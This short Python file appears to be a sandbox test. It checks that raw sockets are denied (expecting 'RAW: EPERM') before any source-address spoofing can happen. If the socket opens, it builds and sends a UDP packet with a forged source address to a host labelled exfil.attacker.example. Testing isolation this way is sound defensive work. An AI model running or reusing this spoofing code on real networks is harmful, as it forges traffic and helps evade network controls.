# backends: all
# what: source-address spoofing with a raw socket (a UDP datagram from 10.9.9.9 to exfil.attacker.example:9)
# Without CAP_NET_RAW the sandbox cannot open the socket (EPERM) and
# nothing is sent; a sandbox that can send meets the anti-spoof rule.
# expect-stdout: ^RAW: EPERM
import errno, socket, struct

def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff

try:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
except PermissionError as e:
    print("RAW: EPERM" if e.errno == errno.EPERM else "RAW: %s" % e)
else:
    src, dst = socket.inet_aton("10.9.9.9"), socket.inet_aton("198.18.1.66")
    payload = b"spoofed"
    udp = struct.pack("!HHHH", 4242, 9, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    s.sendto(ip + udp, ("198.18.1.66", 0))
    print("RAW: SENT")
